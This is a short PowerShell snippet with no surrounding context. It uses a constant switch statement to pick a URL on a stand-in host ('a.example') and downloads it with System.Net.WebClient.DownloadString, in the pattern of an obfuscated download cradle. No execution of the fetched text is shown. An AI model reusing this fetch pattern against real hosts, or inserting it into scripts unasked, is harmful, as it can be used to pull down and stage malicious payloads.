switch(3){1{$u='http://no.example'} 3{$u='http://a.example/p/x.txt'} default{$u='no'}}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($u)
